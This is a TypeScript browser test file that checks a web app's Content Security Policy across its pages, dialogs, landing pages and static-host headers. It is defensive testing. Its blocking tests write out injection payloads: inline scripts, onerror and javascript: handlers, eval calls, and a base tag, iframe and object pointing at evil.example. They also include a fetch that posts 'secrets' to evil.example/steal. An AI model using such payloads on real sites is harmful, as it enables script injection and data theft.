import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, inject, test } from 'vitest'
import { projectDir } from '../supabase/embedded/lib/paths.ts'
import { launchBrowser } from './support/browser.ts'
import { newCampaign, type Campaign } from './support/campaign.ts'
import { linkFromInbox } from './support/inbox.ts'
import { loadDemo, newPerson, signUp, type Person } from './support/person.ts'
import { settled } from './support/settle.ts'

// The policy that the server sends with its pages: nothing of ours breaks it, and nothing that is not ours gets past it.

const app = inject('app')
let browser: Browser
let person: Person
let page: Page
let campaign: Campaign
let places: Record<string, string>

beforeAll(async () => {
  browser = await launchBrowser()
  campaign = await newCampaign(app)
  await campaign.run()
  person = await newPerson(browser)
  page = person.page
  await reportViolations(person.context)
  await signUp(person, app.app_url)
  await loadDemo(person)
  const ids = await page.evaluate(async () => {
    const meta = (name: string): string => document.querySelector<HTMLMetaElement>(`meta[name="${name}"]`)?.content ?? ''
    const key = Object.keys(localStorage).find((name) => name.endsWith('-auth-token')) ?? ''
    const { access_token } = JSON.parse(localStorage.getItem(key) ?? '{}') as { access_token: string }
    const headers = { apikey: meta('supabase-publishable-key'), authorization: `Bearer ${access_token}` }
    const first = async (table: string): Promise<string> => {
      const rows = (await (await fetch(`/rest/v1/${table}?select=id&limit=1`, { headers })).json()) as { id: string }[]
      return rows[0]?.id ?? ''
    }
    return { item: await first('content_items'), site: await first('sites') }
  })
  places = {
    home: '/', content: '/content', 'content types': '/content/types', 'content item': `/content/${ids.item}`, sites: '/sites', site: `/sites/${ids.site}`,
    mappings: '/mappings', review: '/review', jobs: '/jobs', schedules: '/jobs/schedules', settings: '/settings', members: '/settings/members',
    'API keys': '/settings/api-keys', 'audit log': '/settings/audit', account: '/settings/account', 'not found': '/no-such-page',
  }
})
beforeEach(() => {
  person.complaints.length = 0
})
afterAll(async () => {
  await browser.close()
  await campaign.close()
})

/** A browser says in its console what a policy stopped, also where the script that met it went on; so does the page itself. */
async function reportViolations(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      console.error(`stopped by ${event.effectiveDirective}: ${event.blockedURI} ${event.sample} (${event.sourceFile}:${event.lineNumber})`)
    })
  })
}

describe('nothing of ours breaks it', () => {
  test('on any page of the app', async () => {
    for (const path of Object.values(places)) {
      await page.goto(app.app_url + path)
      await settled(page)
    }
    expect(person.complaints).toEqual([])
  })

  test('on any page that opens over another: commands, menus, lists of choices, drawers, dialogs, toasts', async () => {
    await page.goto(`${app.app_url}/content`)
    await settled(page)
    await page.keyboard.press('Control+k')
    await page.getByRole('dialog').waitFor()
    // While it is open, the page behind it does not scroll: one of the styles that come from scripts.
    await expect.poll(() => page.evaluate(() => getComputedStyle(document.body).overflowY)).toBe('hidden')
    await page.keyboard.press('Escape')
    await expect.poll(() => page.evaluate(() => getComputedStyle(document.body).overflowY)).not.toBe('hidden')

    await page.getByRole('button', { name: 'Status: any' }).click()
    await page.getByRole('menu').waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('menu').waitFor({ state: 'detached' })

    await page.getByRole('row', { name: /Fall Savings Event/ }).getByRole('button').last().click()
    await page.getByRole('menuitem', { name: 'Archive' }).click()
    await page.locator('[data-sonner-toast]').first().waitFor()
    // Where the toaster's own style sheet puts it.
    expect(await page.locator('[data-sonner-toaster]').first().evaluate((toaster) => getComputedStyle(toaster).position)).toBe('fixed')

    await page.goto(`${app.app_url}/sites`)
    await page.getByRole('button', { name: 'New site' }).first().click()
    await page.getByRole('dialog').getByLabel('Name', { exact: true }).fill('Policy')
    expect(person.complaints).toEqual([])
  })

  test('on the pages before one is signed in, and on the landing pages', async () => {
    const stranger = await newPerson(browser)
    await reportViolations(stranger.context)
    for (const path of ['/sign-in', '/sign-up', '/forgot-password', '/reset-password', '/auth/callback', '/invitation?token=none']) {
      await stranger.page.goto(app.app_url + path)
      await settled(stranger.page)
    }
    for (const site of ['facebook', 'google', 'instagram']) {
      await stranger.page.goto(`${app.app_url}/c/${campaign.admin.organization.slug}/${site}`)
      await stranger.page.getByText('Last synced').waitFor()
      // Its socket has opened, which connect-src has to allow.
      await stranger.page.waitForFunction(() => performance.getEntriesByType('resource').some(({ name }) => name.includes('/rest/v1/')))
    }
    expect(stranger.complaints).toEqual([])
    await stranger.context.close()
  })

  test('on the inbox and a mail in it', async () => {
    const stranger = await newPerson(browser)
    await reportViolations(stranger.context)
    await stranger.page.goto(`${app.app_url}/forgot-password`)
    await stranger.page.getByLabel('E-mail').fill(person.email)
    await stranger.page.getByRole('button', { name: /Send/ }).click()
    await linkFromInbox(app.inbox_url, person.email)
    await stranger.page.goto(app.inbox_url)
    await stranger.page.getByRole('link', { name: new RegExp(person.email) }).first().click()
    await stranger.page.getByTitle('The mail as it looks').waitFor()
    await stranger.page.frameLocator('iframe').getByRole('link').first().waitFor()
    expect(stranger.complaints).toEqual([])
    await stranger.context.close()
  })
})

test('a static host is told to say of the same build what the server says', async () => {
  const text = await readFile(join(projectDir, 'dist', '_headers'), 'utf8')
  const [everywhere = ''] = text.split('\n/assets/')
  const told = Object.fromEntries([...everywhere.matchAll(/^ {2}([\w-]+): (.*)$/gm)].map(([, name = '', value = '']) => [name.toLowerCase(), value]))
  expect(Object.keys(told)).toContain('content-security-policy')
  const said = await fetch(`${app.app_url}/`, { headers: { 'x-forwarded-proto': 'https' } })
  expect(Object.fromEntries(said.headers)).toMatchObject(told)
})

describe('nothing that is not ours gets past it', () => {
  test.each(['/sign-in', '/c/nobody/nothing'])('scripts and styles that somebody wrote into the page %s do not count', async (path) => {
    const context = await browser.newContext()
    const stopped: string[] = []
    await context.exposeFunction('reportStopped', (what: string) => stopped.push(what))
    await context.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (event) => {
        void (window as unknown as { reportStopped: (what: string) => Promise<void> }).reportStopped(event.effectiveDirective)
      })
    })
    await context.route(`**${path}`, async (route) => {
      const response = await route.fetch()
      const injected = '<script>window.hacked = "inline"</script><style>html { outline: 7px solid red }</style><base href="https://evil.example/">'
      await route.fulfill({ response, body: (await response.text()).replace('<head>', `<head>${injected}`) })
    })
    const tab = await context.newPage()
    await tab.goto(app.app_url + path)
    await tab.getByRole('heading', { level: 1 }).waitFor()
    expect(await tab.evaluate(() => 'hacked' in window)).toBe(false)
    expect(await tab.evaluate(() => getComputedStyle(document.documentElement).outlineWidth)).not.toBe('7px')
    await expect.poll(() => [...new Set(stopped)].sort()).toEqual(expect.arrayContaining(['base-uri', 'script-src-elem', 'style-src-elem']))
    await context.close()
  })

  test('nor do those that a running page makes: elements, handlers, links, text made into code, other people\'s files and addresses', async () => {
    const context = await browser.newContext()
    const tab = await context.newPage()
    await tab.goto(`${app.app_url}/sign-in`)
    await settled(tab)
    const outcome = await tab.evaluate(async () => {
      const stopped = new Set<string>()
      document.addEventListener('securitypolicyviolation', (event) => stopped.add(event.effectiveDirective))
      const attempt = (act: () => unknown): string => {
        try {
          return String(act())
        } catch (error) {
          return error instanceof Error ? error.name : String(error)
        }
      }
      // In a turn of its own: what the tool that drives the browser runs itself is not held to the policy.
      return new Promise<{ ran: unknown; evaluated: string; made: string; fetched: string; stopped: string[] }>((resolve) => {
        setTimeout(() => {
          const script = document.createElement('script')
          script.textContent = 'window.hacked = "script"'
          const foreign = document.createElement('script')
          foreign.src = 'https://evil.example/x.js'
          const box = document.createElement('div')
          box.innerHTML = '<img src="data:," onerror="window.hacked = 1"><a href="javascript:window.hacked = 2">x</a><iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>'
          document.body.append(script, foreign, box)
          box.querySelector('a')?.click()
          const evaluated = attempt(() => (0, eval)('window.hacked = 3'))
          // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- that it is refused is what is asked
          const made = attempt(() => new Function('window.hacked = 4')())
          fetch('https://evil.example/steal', { method: 'POST', body: 'secrets' })
            .then(() => 'sent', () => 'refused')
            .then((fetched) => {
              const settledDown = (): void => {
                if (stopped.size >= 5) resolve({ ran: (window as { hacked?: unknown }).hacked, evaluated, made, fetched, stopped: [...stopped].sort() })
                else setTimeout(settledDown, 20)
              }
              settledDown()
            })
            .catch(() => undefined)
        }, 0)
      })
    })
    expect(outcome).toMatchObject({ ran: undefined, evaluated: 'EvalError', made: 'EvalError', fetched: 'refused' })
    expect(outcome.stopped).toEqual(expect.arrayContaining(['connect-src', 'frame-src', 'script-src', 'script-src-attr', 'script-src-elem']))
    await context.close()
  })

  test('and no other page shows one of ours in a frame', async () => {
    const elsewhere = createServer((_request, response) => {
      response.writeHead(200, { 'content-type': 'text/html' }).end(`<iframe src="${app.app_url}/sign-in"></iframe>`)
    })
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
    const context = await browser.newContext()
    try {
      const tab = await context.newPage()
      const failures: string[] = []
      tab.on('requestfailed', (request) => failures.push(`${request.url()} ${request.failure()?.errorText ?? ''}`))
      await tab.goto(`http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`)
      await expect.poll(() => failures.join()).toContain('/sign-in net::ERR_BLOCKED_BY_RESPONSE')
    } finally {
      await context.close()
      elsewhere.close()
    }
  })
})
